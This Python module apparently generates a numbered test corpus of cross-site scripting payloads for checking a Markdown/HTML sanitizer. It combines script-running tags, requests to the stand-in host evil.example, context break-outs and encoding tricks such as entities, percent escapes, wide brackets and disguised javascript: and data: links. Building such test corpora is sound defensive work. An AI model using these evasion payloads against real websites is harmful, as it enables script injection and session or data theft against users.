"""Payloads made from their parts: what would run, the place it breaks out of, how it is written down, the Markdown around it.

Each is numbered and, if it runs, calls ``top.X(number)`` or asks a foreign host for something. The same numbers mean the same payloads
in every run.
"""

import html
from collections.abc import Callable, Iterator
from functools import cache
from typing import NamedTuple

FOREIGN = "evil.example"
"""The host that payloads ask. No name of this kind is ever given away (RFC 2606)."""


class Payload(NamedTuple):
    """``text`` is what somebody writes; ``control`` what a page would hold that put it in as it is."""

    number: int
    vector: str
    text: str
    control: str


RUNS = [
    "<script>JS</script>",
    "<img src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set onbegin=JS attributeName=x dur=1s>",
    "<svg><image href=x onerror=JS>",
    "<iframe onload=JS></iframe>",
    "<iframe srcdoc='<script>JS</script>'></iframe>",
    "<iframe src=javascript:JS></iframe>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<video><source onerror=JS src=x></video>",
    "<audio src=x onerror=JS></audio>",
    "<video src=x onerror=JS></video>",
    "<style onload=JS>x{}</style>",
    "<link rel=stylesheet href=data:text/css, onload=JS>",
    "<script src=x onerror=JS></script>",
    "<object data=x onerror=JS></object>",
    "<input type=image src=x onerror=JS>",
    "<marquee onstart=JS>x</marquee>",
    "<style>@keyframes k{}</style><b style=animation:k onanimationend=JS>x</b>",
    "<xmp></xmp><img src=x onerror=JS>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<a href=javascript:JS>x</a>",
    "<form action=javascript:JS><button>x</button></form>",
    "<form><button formaction=javascript:JS>x</button></form>",
    "<svg><a href=javascript:JS><text y=9>x</text></a></svg>",
]
"""With ``JS`` for what is to run. Links and buttons run when they are pressed."""

ASKS = [
    "<img src=//HOST>",
    "<img srcset=//HOST>",
    "<svg><image href=//HOST>",
    "<iframe src=//HOST></iframe>",
    "<video poster=//HOST></video>",
    "<audio src=//HOST></audio>",
    "<link rel=stylesheet href=//HOST>",
    "<script src=//HOST></script>",
    "<style>@import '//HOST'</style>",
    "<div style=background:url(//HOST)>x</div>",
    "<object data=//HOST></object>",
    "<embed src=//HOST>",
    "<input type=image src=//HOST>",
    "<body background=//HOST>",
]
"""With ``HOST`` for a foreign address."""

BREAKS_OUT: dict[str, tuple[str, str]] = {
    "attribute": ('<p title="{}">x</p>', '">'),
    "attribute'": ("<p title='{}'>x</p>", "'>"),
    "bare attribute": ("<p title={}>x</p>", "x>"),
    "comment": ("<!-- {} -->", "-->"),
    "text area": ("<textarea>{}</textarea>", "</textarea>"),
    "title": ("<title>{}</title>", "</title>"),
    "style": ("<style>a{{b:{}}}</style>", "</style>"),
    "script": ('<script>var a = "{}";</script>', "</script>"),
    "JSON": ('<script type=application/json>{{"a": "{}"}}</script>', '"}</script>'),
    "option": ("<select><option>{}</option></select>", "</option></select>"),
    "link": ('<a href="/{}">x</a>', '">'),
    "template of Django": ("<p>{}</p>", "{% endverbatim %}{{ 7|add:7 }}"),
}
"""Where the text stands, and what ends that place."""


def _entities(value: str, form: str) -> str:
    return "".join(f"&#{form.format(ord(letter))};" for letter in value)


WRITTEN: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "in capitals": lambda text: _tags(text, str.upper),
    "with slashes": lambda text: _blanks(text, "/"),
    "over lines": lambda text: _blanks(text, "\n"),
    "with form feeds": lambda text: _blanks(text, "\f"),
    "with tabs": lambda text: _blanks(text, "\t"),
    "as decimal entities": lambda text: _code(text, lambda code: _entities(code, "{}")),
    "as hexadecimal entities": lambda text: _code(text, lambda code: _entities(code, "x{:x}")),
    "as a call in brackets": lambda text: _code(text, lambda code: f"[top][0].{code.removeprefix('top.')}"),
    "never closed": lambda text: text.rstrip(">") + ">" if text.startswith("<s") else text.partition("></")[0] + " //",
    "after another bracket": lambda text: f"<<b>{text}",
    "within itself": lambda text: (
        text.replace("<s", "<<s>s", 1) if text.startswith("<s") else text.replace("on", "oonn", 1)
    ),
    "as an entity of itself": html.escape,
    "in percent": lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    "as escapes of scripts": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "in wide letters": lambda text: text.replace("<", "＜").replace(">", "＞"),
}
"""Ways to write the same down. The last ones run only where something decodes them once too often."""


def _tags(text: str, change: Callable[[str], str]) -> str:
    name, separator, rest = text[1:].partition(" ") if " " in text.split(">")[0] else text[1:].partition(">")
    return f"<{change(name)}{separator}{rest}"


def _blanks(text: str, blank: str) -> str:
    head, end, rest = text.partition(">")
    return head.replace(" ", blank) + end + rest


def _code(text: str, change: Callable[[str], str]) -> str:
    """Changes what runs, where it stands in an attribute: elsewhere entities are no code."""
    return (
        text
        if "=JS" not in text and ":JS" not in text
        else text.replace("JS", f"\0{'JS'}\0").replace("\0JS\0", change("top.X(NUMBER)"))
    )


AROUND = [
    "{}", "**{}**", "> {}", "- {}", "# {}", "- [ ] {}", "~~{}~~", "`{}`", "[{}](https://a.example)", "![{}](/a)", "[a](/b '{}')",
    "[a](</{}>)", "<https://a.example/{}>", "| a |\n| - |\n| {} |", "```{}\ncode\n```", "a[^1]\n\n[^1]: {}", "$ {} $",
    "```mermaid\ngraph TD; A[\"{}\"]-->B\n```", "    {}", "\\{}", "[a]: /b \"{}\"\n\n[a]",
]  # fmt: skip
"""Markdown with the payload in it."""

LEADS = [
    "javascript:JS", "JavaScript:JS", "java\tscript:JS", "java\nscript:JS", " javascript:JS", "\x01javascript:JS", "javascript\t:JS",
    "javascript://a.example/%0aJS", "javascript:JS//https://a.example", "javascript:void(JS)", "JAVASCRIPT:JS",
    "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD50b3AuWCgxKTwvc2NyaXB0Pg==", "vbscript:JS",
    "view-source:javascript:JS", "blob:JS", "filesystem:JS", "feed:javascript:JS",
]  # fmt: skip
"""Addresses that would run when one follows them."""

LINKS = ["[a]({})", "[a](<{}>)", "<{}>", "![a]({})", "[a][b]\n\n[b]: {}", "[![a](/c)]({})", '[a]({} "b")']
ENCODED: list[Callable[[str], str]] = [
    lambda address: address,
    lambda address: address.replace(":", "&colon;", 1),
    lambda address: address.replace("j", "&#106;", 1).replace("J", "&#x4A;", 1).replace("d", "&#100;", 1),
    lambda address: address.replace(":", "%3A", 1),
    lambda address: address.replace(":", "\\:", 1),
]


@cache
def corpus() -> tuple[Payload, ...]:
    """All payloads, numbered from 1."""
    return tuple(
        Payload(number, vector, _numbered(text, number), _numbered(control, number))
        for number, (vector, text, control) in enumerate(_made(), 1)
    )


def _numbered(text: str, number: int) -> str:
    text = text.replace("JS", "top.X(NUMBER)").replace("HOST", f"{FOREIGN}/NUMBER")
    # Where the digits were written as entities there is no place to put others: these payloads carry their number in the foreign form.
    return (
        text.replace("NUMBER", str(number))
        .replace(_entities("NUMBER", "{}"), str(number))
        .replace(_entities("NUMBER", "x{:x}"), str(number))
    )


def _made() -> Iterator[tuple[str, str, str]]:
    vectors = RUNS + ASKS
    for vector in vectors:
        for write in WRITTEN.values():
            yield vector, write(vector), write(vector)
    for vector in vectors:
        for place, ends in BREAKS_OUT.values():
            yield vector, ends + vector, place.format(ends + vector)
    writings = list(WRITTEN.values())[:6]
    for number, vector in enumerate(vectors):
        for turn, around in enumerate(AROUND):
            written = writings[(number + turn) % len(writings)](vector).replace("\n", " ")
            yield vector, around.format(written), written
    for lead in LEADS:
        for number, form in enumerate(LINKS):
            written = ENCODED[number % len(ENCODED)](lead)
            yield lead, form.format(written), f'<a href="{html.escape(html.unescape(written))}">a</a>'
